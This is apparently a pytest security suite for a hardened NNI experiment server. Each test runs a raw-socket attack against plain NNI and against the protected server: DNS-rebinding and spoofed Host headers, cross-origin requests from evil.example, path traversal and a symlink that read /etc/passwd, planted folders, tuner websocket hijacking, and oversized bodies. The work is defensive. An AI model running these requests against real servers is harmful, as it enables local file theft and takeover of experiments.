"""Attacks on the server by raw sockets: each succeeds against NNI alone, and none here.

Who attacks knows the secret path, so that every other barrier is tried by itself.
"""

import json
from collections.abc import Callable

import pytest
from fast_experiments import wait_for
from targets import Target, status

from aerial_nni.nni_backend.ports import is_free

pytestmark = pytest.mark.server

API = "/api/v1/nni"
JSON = "Content-Type: application/json"
EVIL = "Origin: http://evil.example"
UP = "..%2f" * 12

Attack = Callable[[Target], bool]
"""Whether it succeeds."""


def asked_as(*hosts: str) -> Attack:
    """A page whose own name resolves to this machine (DNS rebinding), and other odd names."""

    def attack(target: Target) -> bool:
        line = f"GET {target.prefix}{API}/check-status HTTP/1.1"
        return status(target.send([line, "Connection: close", *hosts])) == 200

    return attack


def absolute(target: Target) -> bool:
    line = f"GET http://evil.example{target.prefix}{API}/check-status HTTP/1.1"
    return status(target.send([line, "Connection: close", "Host: 127.0.0.1"])) == 200


def adds_trial(*headers: str, host: str = "", body: str = '{"lr": 0.5}') -> Attack:
    def attack(target: Target) -> bool:
        before = target.profile["nextSequenceId"]
        target.request("POST", f"{API}/trial-jobs", *headers, host=host, body=body)
        return target.profile["nextSequenceId"] > before

    return attack


def ends_boards(target: Target) -> bool:
    answer = target.request("DELETE", f"{API}/tensorboard-tasks", EVIL)
    return status(answer) == 200


def overwrites_profile(target: Target) -> bool:
    """What ended the launcher with `KeyError: 'maxTrialNumber'`."""
    path = f"{API}/experiment?update_type=MAX_TRIAL_NUM"
    target.request("PUT", path, "Content-Type: text/plain", EVIL, body='{"params": {}}')
    target.request("PUT", path, JSON, body='{"params": {}}')
    return "maxTrialNumber" not in target.profile["params"]


def profile_of(kind: str, params: dict[str, object]) -> Attack:
    """A profile of which one value was edited by hand: nothing in it may be taken."""

    def attack(target: Target) -> bool:
        before = target.profile["params"]
        body = json.dumps({"params": before | params})
        target.request("PUT", f"{API}/experiment?update_type={kind}", JSON, body=body)
        return bool(target.profile["params"] != before)

    return attack


def opens(path: str, *headers: str, host: str = "") -> Attack:
    """A second socket on a command channel."""
    return lambda target: status(target.upgrade(path, *headers, host=host)) == 101


def speaks_as_trial(target: Target) -> bool:
    metric = {"type": "metric", "metric": "{}"}
    path = f"/env/local-env/{target.trial}x"
    return status(target.request("PUT", path, JSON, body=json.dumps(metric))) == 200


def hears_trial(target: Target) -> bool:
    return status(target.request("GET", f"/env/local-env/{target.trial}x")) in (200, 408)


def reads_file(target: Target) -> bool:
    path = f"{API}/trial-file/{target.trial}/{UP}etc%2fpasswd"
    return b"root:" in target.request("GET", path)


def reads_log_by_link(target: Target) -> bool:
    link = target.trial_folder / "trial.log"
    link.unlink(missing_ok=True)
    link.symlink_to("/etc/passwd")
    return b"root:" in target.request("GET", f"{API}/trial-file/{target.trial}/trial.log")


def makes_folder(target: Target) -> bool:
    before = set(target.folder.parent.parent.rglob("planted"))
    body = json.dumps({"trials": "../../planted"})
    target.request("POST", f"{API}/tensorboard", JSON, body=body)
    return set(target.folder.parent.parent.rglob("planted")) != before


def reads_board(target: Target) -> bool:
    """TensorBoard, started by the owner, under another name."""
    body = json.dumps({"trials": target.trial})
    answer = target.request("POST", f"{API}/tensorboard", JSON, body=body)
    port = int(json.loads(answer.partition(b"\r\n\r\n")[2])["port"].partition("/")[0])
    board = Target(port, target.folder)
    wait_for(lambda: not is_free(port))
    return status(board.send(["GET / HTTP/1.1", "Connection: close", "Host: evil.example"])) == 200


def imports_data(target: Target) -> bool:
    body = json.dumps([{"parameter": {"lr": 0.5}, "value": 1}])
    return status(target.request("POST", f"{API}/experiment/import-data", JSON, body=body)) == 200


def starts_again(target: Target) -> bool:
    """A second start, of another experiment in the place of the one that runs."""
    before = target.profile["params"]
    target.request(
        "POST", f"{API}/experiment", JSON, body=json.dumps(before | {"debug": "planted"})
    )
    return bool(target.profile["params"] != before)


def configures_cluster(target: Target) -> bool:
    """With any key in it, the configuration of a cluster ends NNI alone."""
    return (
        status(target.request("PUT", f"{API}/experiment/cluster-metadata", JSON, body="{}")) == 200
    )


def reads_another_log(target: Target) -> bool:
    (target.folder / "log" / "other.log").write_text("planted")
    return b"planted" in target.request("GET", "/logs/other.log")


def asks_another_site(target: Target) -> bool:
    """A page of netron.app's, as one of this server. Without a network it is asked all the same."""
    return status(target.request("GET", "/netron/index.html")) != 404


def floods(target: Target) -> bool:
    """A body of twenty megabytes is taken."""
    body = json.dumps({"lr": " " * 20_000_000})
    return adds_trial(JSON, body=body)(target)


ATTACKS: dict[str, Attack] = {
    "another name": asked_as("Host: evil.example"),
    "another name with our port": asked_as("Host: evil.example:8080"),
    "a name that begins with ours": asked_as("Host: 127.0.0.1.evil.example"),
    "a name behind a user": asked_as("Host: 127.0.0.1@evil.example"),
    "ours before a user": asked_as("Host: evil.example@127.0.0.1"),
    "a name with a dot at its end": asked_as("Host: localhost."),
    "no name": asked_as("Host:"),
    "two names": asked_as("Host: 127.0.0.1", "Host: evil.example"),
    "another address": asked_as("Host: 192.0.2.1"),
    "another address of version 6": asked_as("Host: [2001:db8::1]"),
    "a forwarded name": asked_as("Host: evil.example", "X-Forwarded-Host: 127.0.0.1"),
    "a name in the target": absolute,
    "a page that reads": asked_as("Host: 127.0.0.1", EVIL),
    "a page without an origin that reads": asked_as("Host: 127.0.0.1", "Origin: null"),
    "two origins": asked_as("Host: 127.0.0.1", "Origin: http://127.0.0.1", EVIL),
    "a page on another port of ours": asked_as("Host: 127.0.0.1:1", "Origin: http://127.0.0.1:2"),
    "a script tag": asked_as(
        "Host: 127.0.0.1", "Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: no-cors"
    ),
    "a page starts a trial": adds_trial(JSON, EVIL),
    "a sandboxed page starts a trial": adds_trial(JSON, "Origin: null"),
    "a rebound page starts a trial": adds_trial(JSON, EVIL, host="evil.example"),
    "plain text starts a trial": adds_trial("Content-Type: text/plain"),
    "a form starts a trial": adds_trial("Content-Type: application/x-www-form-urlencoded"),
    "a list of types": adds_trial("Content-Type: text/plain; application/json"),
    "two types": adds_trial("Content-Type: text/plain", JSON),
    "no type": adds_trial(),
    "no body": adds_trial(JSON, body=""),
    "a large body": floods,
    "a deep body": adds_trial(JSON, body=f'{{"lr": {"[" * 100}{"]" * 100}}}'),
    "a page deletes": ends_boards,
    "a profile without its keys": overwrites_profile,
    "a number as text": profile_of("MAX_TRIAL_NUM", {"maxTrialNumber": "many"}),
    "a number below one": profile_of("MAX_TRIAL_NUM", {"maxTrialNumber": -1}),
    "a list for a number": profile_of("TRIAL_CONCURRENCY", {"trialConcurrency": [2]}),
    "half a trial": profile_of("TRIAL_CONCURRENCY", {"trialConcurrency": 1.5}),
    "a time without a unit": profile_of("MAX_EXEC_DURATION", {"maxExperimentDuration": "soon"}),
    "no time": profile_of("MAX_EXEC_DURATION", {"maxExperimentDuration": None}),
    "a number as a time": profile_of("MAX_EXEC_DURATION", {"maxExperimentDuration": "5"}),
    "a list as a time": profile_of("MAX_EXEC_DURATION", {"maxExperimentDuration": [2]}),
    "a list of times": profile_of("MAX_EXEC_DURATION", {"maxExperimentDuration": ["1h"]}),
    "true as a time": profile_of("MAX_EXEC_DURATION", {"maxExperimentDuration": True}),
    "no seconds": profile_of("MAX_EXEC_DURATION", {"maxExperimentDuration": "0s"}),
    "another search space": profile_of("SEARCH_SPACE", {"searchSpace": {}}),
    "a second tuner": opens("/tuner"),
    "a second tuner with a name": opens("/tuner/anything"),
    "a second tuner of another page": opens("/tuner", EVIL),
    "a second tuner of a rebound page": opens("/tuner", host="evil.example"),
    "a socket anywhere": opens(f"{API}/check-status"),
    "a trial's word": speaks_as_trial,
    "a trial's ear": hears_trial,
    "a file of this machine": reads_file,
    "a file behind a link": reads_log_by_link,
    "a folder elsewhere": makes_folder,
    "a board of TensorBoard": reads_board,
    "results that nobody measured": imports_data,
    "another log": reads_another_log,
    "a cluster": configures_cluster,
    "a second start": starts_again,
    "a page of another site": asks_another_site,
}


@pytest.mark.parametrize("name", ATTACKS)
def test_it_succeeds_against_nni_alone(alone: Target, name: str):
    assert ATTACKS[name](alone)


@pytest.mark.parametrize("name", ATTACKS)
def test_it_fails_here(ours: Target, name: str):
    assert not ATTACKS[name](ours)
